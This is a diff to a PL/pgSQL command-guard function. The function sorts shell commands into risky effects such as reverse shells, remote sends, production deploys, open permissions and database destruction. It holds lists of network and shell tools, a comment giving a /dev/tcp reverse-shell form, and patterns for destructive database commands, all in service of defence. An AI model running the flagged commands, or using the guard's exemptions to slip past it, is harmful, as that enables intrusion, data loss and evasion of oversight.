@@ -20,7 +20,7 @@ set search_path = pg_catalog, pg_temp
 as $$
 declare
   v_shells constant text[] := array['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'fish', 'rbash', 'tcsh', 'csh',
-                                    'busybox'];
+                                    'busybox', 'nu', 'elvish', 'xonsh'];
   v_readers constant text[] := array['cat', 'less', 'more', 'head', 'tail', 'bat', 'nl', 'tac', 'strings', 'xxd', 'od',
                                      'hexdump', 'hd', 'base64', 'base32', 'basenc', 'grep', 'egrep', 'fgrep', 'rg', 'ag',
                                      'ack', 'awk', 'sed', 'cut', 'sort', 'uniq', 'diff', 'cmp', 'jq', 'yq', 'vim', 'vi',
@@ -30,14 +30,16 @@ declare
                                      'select-string', 'findstr', 'certutil', 'tee', 'rev', 'expand', 'split', 'csplit',
                                      'mail', 'mailx', 'lp', 'lpr', 'pbcopy', 'xclip', 'xsel', 'wl-copy', 'clip', 'keytool',
                                      'plutil', 'sqlite', 'python', 'node', 'ruby', 'perl', 'php', 'cat-file', 'dos2unix',
-                                     'jless', 'fx', 'glow', 'most', 'w3m', 'lynx', 'pygmentize', 'highlight', 'ccat'];
+                                     'jless', 'fx', 'glow', 'most', 'w3m', 'lynx', 'pygmentize', 'highlight', 'ccat', 'open',
+                                     'xdg-open', 'rga', 'ugrep', 'bat', 'delta', 'vim.tiny', 'micro', 'hx', 'helix', 'kak'];
   v_no_read constant text[] := array['ls', 'dir', 'stat', 'file', 'test', '[', '[[', 'touch', 'mkdir', 'chmod', 'chown',
                                      'chgrp', 'wc', 'du', 'realpath', 'readlink', 'basename', 'dirname', 'which',
                                      'echo', 'printf', 'cd', 'pushd', 'ssh', 'ssh-add', 'sha256sum', 'md5sum',
                                      'sha1sum', 'sha512sum', 'b2sum', 'cksum', 'shasum', 'git', 'source', '.', 'export',
                                      'unset', 'trap', 'true', 'false', 'test-path', 'get-item', 'ssh-keygen', 'setfacl',
-                                     'getfacl', 'lsattr', 'namei', 'tree', 'find', 'locate', 'fd', 'exa', 'eza', 'lsd',
-                                     'open', 'xdg-open', 'code', 'rm', 'shred', 'unlink', 'cp', 'mv', 'tee', 'truncate',
+                                     'getfacl', 'lsattr', 'namei', 'tree', 'find', 'locate', 'fd', 'exa', 'eza', 'lsd', 'get-acl',
+                                     'set-acl', 'test-path', 'resolve-path', 'get-itemproperty',
+                                     'code', 'rm', 'shred', 'unlink', 'cp', 'mv', 'tee', 'truncate',
                                      'dd', 'tar', 'zip', 'rsync', 'scp', 'install', 'ln', 'curl', 'wget', 'nc', 'ncat',
                                      'socat', 'chattr', 'gpg', 'age', 'sops', 'direnv', 'trash', 'rmdir', 'mkfs', 'icacls',
                                      'takeown', 'attrib', 'cipher', 'sdelete', 'srm', 'wipe', ':', 'kill', 'sudo', 'su',
@@ -100,7 +102,11 @@ begin
       -- a socket as a file: duplicated onto the shell's own streams (>&, <>, an interactive
       -- shell) it is a remote shell; written to, data leaves; a bare < only probes the port
       v_out := v_out || case when (strpos(v_op_text, '&') > 0 or strpos(v_op_text, '<>') > 0
-                                   or v_prog = any (v_shells) and v_flags && array['-i'])
+                                   or v_prog = any (v_shells) and v_flags && array['-i']
+                                   -- a shell reading from the socket, or writing to it with its other
+                                   -- streams duplicated onto it (bash > /dev/tcp/h/p 0<&1 2>&1)
+                                   or v_prog = any (v_shells) and (strpos(v_op_text, '<') > 0
+                                      or exists (select from jsonb_array_elements(v_op -> 'redir') as d where strpos(d ->> 0, '&') > 0)))
                                   and (split_part(v_t, '/', 4) not in ('localhost', '127.0.0.1', '::1') or v_flags && array['-i'])
                              then coord.guard_effect('revshell', array[v_t])
                              when strpos(v_op_text, '>') > 0 then coord.guard_effect('send', array[v_t])
@@ -274,6 +280,14 @@ begin
         end if;
       elsif coalesce('remote' = any (coord.guard_classify(v_dest)), false) then
         v_out := v_out || coord.guard_effect('send', v_sources);
+        -- copying into a production server's web root or application directory deploys there; a
+        -- mirror that deletes what the source lacks (rsync --delete) does on any server
+        if substring(v_dest from ':(.*)$') ~ '^(/var/www|/srv|/opt|/usr/share/nginx|/usr/local/www|/home/[^/]+/(www|public_html|app|apps)|/var/lib/tomcat)'
+           and (split_part(v_dest, ':', 1) ~* '(^|[^a-z])(prod|production|prd|live)([^a-z]|$)'
+                or v_prog = 'rsync' and v_flags && array['--delete', '--delete-after', '--delete-before', '--delete-during', '--del']) then
+          v_out := v_out || jsonb_build_array(jsonb_build_object('a', 'deploy', 't', v_dest, 'c', jsonb_build_array(
+                     case when split_part(v_dest, ':', 1) ~* '(^|[^a-z])(prod|production|prd|live)([^a-z]|$)' then 'production' else 'unknown-env' end)));
+        end if;
       else
         v_out := v_out || coord.guard_effect(case when v_prog in ('mv', 'move', 'move-item', 'mi') then 'delete-tree'
                                                   else 'copy' end, v_sources);
@@ -309,7 +323,9 @@ begin
       v_recursive := v_flags && array['-R', '--recursive'];
       v_mode := case when v_prog = 'chmod' and not (v_op -> 'vals' ? '--reference') then v_args[1] end;
       v_rest := case when v_prog = 'setfacl' or v_op -> 'vals' ? '--reference' then v_args else v_args[2:] end;
-      v_out := v_out || coord.guard_effect(case when v_recursive then 'perms-tree' else 'perms' end, v_rest);
+      -- a glob changes many files at once, like a recursive change
+      v_out := v_out || coord.guard_effect(case when v_recursive or exists (select from unnest(v_rest) as r where strpos(r, '*') > 0)
+                                                then 'perms-tree' else 'perms' end, v_rest);
       if v_mode ~ '^0*[0-7]?[0-7][0-7][2367]$' or v_mode ~ '(^|,)[ugo]*[ao][ugo]*[+=][rwxXst]*w' then
         v_out := v_out || coord.guard_effect('perms-open', v_rest);
       elsif v_mode ~ '^0*[0-7]?[0-7][4-7][0-7]$|^0*[0-7]?[0-7][0-7][4-7]$' or v_mode ~ '(^|,)[ugo]*[aog][ugo]*[+=][rwxXst]*r' then
@@ -372,7 +388,7 @@ begin
       end if;
     when v_prog in ('xterm', 'xdotool') and v_op -> 'vals' ? '-display' or v_prog = 'xterm' and v_raw && array['-display'] then
       v_out := v_out || coord.guard_effect('revshell', array['remote display']);
-    when v_prog in ('kill', 'stop-process', 'spps', 'pkill', 'killall', 'taskkill', 'skill') then
+    when v_prog in ('kill', 'stop-process', 'spps', 'pkill', 'killall', 'taskkill', 'skill', 'stop-service', 'spsv') then
       v_out := v_out || coord.guard_kill_effects(v_op, p_ctx);
     when v_prog in ('echo', 'printf', 'write-output', 'write-host', 'print', 'printenv') then
       -- printing a secret variable shows it; ${!name} prints any variable by name
@@ -400,7 +416,7 @@ begin
         v_out := v_out || coord.guard_effect('container-privileged', array['host mount']);
       end if;
       if exists (select from jsonb_array_elements_text(coalesce(v_op -> 'vals' -> '-e', '[]')) as e
-                 where e ~* '^POSTGRES_HOST_AUTH_METHOD=trust|^MYSQL_ALLOW_EMPTY_PASSWORD=|^ALLOW_EMPTY_PASSWORD=yes')
+                 where e ~* '^POSTGRES_HOST_AUTH_METHOD=trust|^MYSQL_ALLOW_EMPTY_PASSWORD=|^ALLOW_EMPTY_PASSWORD=yes|^xpack\.security\.enabled=false|^DISABLE_SECURITY_PLUGIN=true|^plugins\.security\.disabled=true|^discovery\.type=single-node.*xpack|^RABBITMQ_DEFAULT_PASS=guest')
          and exists (select from jsonb_array_elements_text(coalesce(v_op -> 'vals' -> '-p', '[]')) as p where p like '0.0.0.0:%' or p !~ '^127\.') then
         v_out := v_out || coord.guard_effect('network-expose', array['open database']);
       end if;
@@ -472,7 +488,7 @@ begin
 
   -- document databases: destructive code handed to their shells
   if v_prog in ('mongosh', 'mongo') and exists (
-       select from jsonb_array_elements_text(coalesce(v_op -> 'vals' -> '--eval', '[]')) as c
+       select from jsonb_array_elements_text(coalesce(v_op -> 'vals' -> '--eval', '[]') || coalesce(to_jsonb(p_ctx ->> 'stdin'), '[]')) as c
        where c ~* '(dropdatabase|\.drop\(|deletemany\(\s*\{\s*\}|remove\(\s*\{\s*\}|updatemany\(\s*\{\s*\}|dropuser|dropallusers|shutdownserver|dropindexes|\.renamecollection\(|(runcommand|admincommand)\(\s*\{\s*(drop|shutdown|fsync|replsetreconfig|setparameter|killop|killallsessions|dropconnections)|fsynclock)') then
     v_out := v_out || coord.guard_effect('db-destroy', array['--eval']);
   end if;
@@ -512,6 +528,79 @@ begin
        where w ~* '"(privileged|hostPID|hostNetwork|hostIPC|allowPrivilegeEscalation)"\s*:\s*true|"hostPath"\s*:|--privileged(=true)?$') then
     v_out := v_out || coord.guard_effect('container-privileged', array['pod']);
   end if;
+  -- git checkout/restore of whatever a command lists (git diff --name-only | xargs git checkout --)
+  if v_prog = 'git' and v_args[1] in ('checkout', 'co', 'restore')
+     and (exists (select from unnest(v_args[2:]) as a where a like '%$(...)%')
+          or v_in in ('paths', 'other', 'text') and not exists (select from unnest(v_args[2:]) as a where a <> '--')) then
+    v_out := v_out || coord.guard_effect('git-discard', array['(files listed at run time)']);
+  end if;
+  -- git clean -i answered with c: clean everything it lists
+  if v_prog = 'git' and v_args[1] = 'clean' and (v_flags && array['-i', '--interactive'] or exists (select from unnest(v_words) as w where w ~ '^-[a-z]*i'))
+     and coalesce(p_ctx ->> 'stdin', '') ~* '^\s*(c|clean|[*])' then
+    v_out := v_out || coord.guard_effect('git-discard', array['(untracked files)']);
+  end if;
+  -- sqlite3 FILE 'DELETE ...': the statement writes that file
+  if v_prog in ('sqlite3', 'duckdb', 'litecli') and cardinality(v_args) >= 2
+     and v_args[2] ~* '^\s*(delete|update|drop|insert|vacuum|alter|replace|truncate)\s' then
+    v_out := v_out || coord.guard_effect('write', v_args[1:1]);
+  end if;
+  -- patch FILE and touch FILE write it
+  if v_prog = 'patch' and not v_flags && array['--dry-run', '-C', '--check'] then
+    v_out := v_out || coord.guard_effect('write', v_args[1:1]);
+  elsif v_prog = 'touch' then
+    v_out := v_out || coord.guard_effect('write', v_args);
+  end if;
+  -- ORM code run against the application's database (rails runner, artisan tinker)
+  if (v_prog in ('rails', 'bin/rails', 'rake') and v_args[1] = 'runner' or v_prog in ('php', 'artisan') and 'tinker' = any (v_args))
+     and exists (select from unnest(v_raw) as r
+                 where r ~* '(\.(delete_all|destroy_all|update_all|truncate|forcedelete|delete)\(?|::truncate\(|drop_table|db::statement\([''"]?\s*(drop|truncate|delete))') then
+    v_out := v_out || coord.guard_effect('db-destroy', array[v_prog]);
+  end if;
+  -- a command run on a production host over ssh changes production (reading does not)
+  if p_ctx ? 'remote' and (p_ctx ->> 'remote') ~* '(^|[^a-z])(prod|production|prd|live)([^a-z]|$)'
+     and v_prog not in ('ls', 'cat', 'tail', 'head', 'less', 'grep', 'ps', 'df', 'du', 'uptime', 'journalctl', 'free', 'top',
+                        'who', 'w', 'date', 'hostname', 'uname', 'echo', 'true', 'test', 'which', 'id', 'whoami', 'pwd',
+                        'stat', 'wc', 'find', 'env', 'printenv', 'cd', 'exit', 'dmesg', 'ss', 'netstat', 'ip', 'lsblk', 'mount')
+     and not (v_prog = 'systemctl' and v_args[1] in ('status', 'is-active', 'list-units', 'show', 'cat'))
+     and not (v_prog in ('docker', 'kubectl') and v_args[1] in ('ps', 'logs', 'get', 'describe', 'images', 'top', 'stats', 'inspect'))
+     and not (v_prog = 'git' and v_args[1] in ('status', 'log', 'diff', 'show', 'rev-parse', 'branch')) then
+    v_out := v_out || jsonb_build_array(jsonb_build_object('a', 'deploy', 't', p_ctx ->> 'remote', 'c', jsonb_build_array('production')));
+  end if;
+  -- nushell: save writes its target; $env printed is the environment
+  if v_prog = 'save' then
+    v_out := v_out || coord.guard_effect('write', v_args[1:1]);
+  elsif v_prog = '$env' and coalesce(cardinality(v_args), 0) = 0 then
+    v_out := v_out || coord.guard_effect('env-dump', array['$env']);
+  end if;
+  -- perl -n / -p, ruby -n / -p, awk with a program: the files named after the code are read
+  if v_prog in ('perl', 'ruby') and (v_flags && array['-n', '-p'] or exists (select from unnest(v_words) as w where w ~ '^-[a-zA-Z]*[np][a-zA-Z]*$')) then
+    v_out := v_out || coord.guard_effect('read', array(select a from unnest(v_args) as a where a !~ '^-'));
+  end if;
+  -- gpg -o FILE, openssl -out FILE write that file
+  if v_prog in ('gpg', 'openssl') then
+    v_out := v_out || coord.guard_effect('write', array(select jsonb_array_elements_text(
+                        coalesce(v_op -> 'vals' -> '-o', '[]') || coalesce(v_op -> 'vals' -> '--output', '[]') || coalesce(v_op -> 'vals' -> '-out', '[]'))));
+    if v_prog = 'gpg' and exists (select from unnest(v_words) with ordinality as x (w, o) where x.w in ('-o', '--output') and v_words[x.o + 1] is not null) then
+      v_out := v_out || coord.guard_effect('write', array(select v_words[x.o + 1] from unnest(v_words) with ordinality as x (w, o) where x.w in ('-o', '--output')));
+    end if;
+  end if;
+  -- timestamps set on system files, keys or start-up files hide a change
+  if v_prog = 'touch' and (v_flags && array['-r', '-d', '-t', '--date', '--reference'] or v_op -> 'vals' ?| array['-r', '-d', '-t', '--date', '--reference']) then
+    v_out := v_out || (select coalesce(jsonb_agg(jsonb_build_object('a', 'history-tamper', 't', e ->> 't', 'c', e -> 'c')), '[]')
+                       from jsonb_array_elements(coord.guard_effect('write', v_args)) as e
+                       where e -> 'c' ?| array['system', 'credential', 'persistence', 'privilege', 'security', 'history']);
+  end if;
+  -- ACLs that let another user read or write a key or a system file
+  if v_prog = 'setfacl' and (v_flags && array['-m', '-M', '--modify'] or v_op -> 'vals' ?| array['-m', '--modify'])
+     and exists (select from unnest(v_words) as w where w ~ '^(u|g|o|m|user|group|other|mask):[^:]*:[r-]?w?') then
+    v_out := v_out || (select coalesce(jsonb_agg(jsonb_build_object('a', 'perms-open', 't', e ->> 't', 'c', e -> 'c')), '[]')
+                       from jsonb_array_elements(coord.guard_effect('perms', v_args)) as e
+                       where e -> 'c' ?| array['system', 'credential', 'privilege', 'security', 'root', 'home']);
+  end if;
+  -- docker kill / rm -f / stop fed the ids of every container
+  if v_prog = 'docker' and v_args[1] in ('kill', 'stop', 'rm', 'rmi') and cardinality(v_args) = 1 and v_in = 'pids' then
+    v_out := v_out || coord.guard_effect('container-destroy', array['(every container)']);
+  end if;
   -- a shell started as root with nothing to run is a root shell
   if (p_ctx ->> 'root')::boolean and v_prog = any (v_shells) and coalesce(cardinality(v_args), 0) = 0
      and not (v_op -> 'vals' ?| array['-c', '--command']) and not v_flags && array['-c'] then
@@ -528,6 +617,21 @@ begin
                                            'start-process', 'saps', 'start', 'ni', 'ac', 'rp', 'winrm', 'certutil',
                                            'bitsadmin', 'icacls', 'takeown', 'cacls') then
     v_out := v_out || coord.guard_windows_effects(v_op, p_ctx);
+  end if;
+  -- a test database may be reset (RAILS_ENV=test, -e test, dropdb app_test); read-only modules
+  -- and listings change nothing
+  if v_out @> '[{"a": "db-destroy"}]'
+     and ((p_ctx ->> 'test_env')::boolean
+          or array_to_string(v_words, ' ') ~* '(^| )(-e|-E|--env|--environment)( |=)(test|testing)( |$)'
+          or v_prog in ('dropdb', 'createdb') and v_args[cardinality(v_args)] ~* '([_-]test(ing)?|^test[_-][a-z0-9_]+)$') then
+    v_out := (select coalesce(jsonb_agg(e), '[]') from jsonb_array_elements(v_out) as e where e ->> 'a' <> 'db-destroy');
+  end if;
+  if v_prog = 'ansible' and coalesce(v_op -> 'vals' -> '-m' ->> 0, (select v_words[x.o + 1] from unnest(v_words) with ordinality as x (w, o) where x.w in ('-m', '--module-name') limit 1), '')
+                             in ('setup', 'ping', 'gather_facts', 'debug', 'stat', 'service_facts', 'package_facts', 'ansible.builtin.setup', 'ansible.builtin.ping') then
+    v_out := (select coalesce(jsonb_agg(e), '[]') from jsonb_array_elements(v_out) as e where e ->> 'a' <> 'deploy');
+  end if;
+  if v_prog in ('kubectl', 'oc') and v_args[1] = 'get' and coalesce(v_op -> 'vals' -> '-o' ->> 0, v_op -> 'vals' -> '--output' ->> 0, '') in ('name', 'wide') then
+    v_out := (select coalesce(jsonb_agg(e), '[]') from jsonb_array_elements(v_out) as e where e ->> 'a' <> 'secret-dump');
   end if;
   return v_out;
 end;
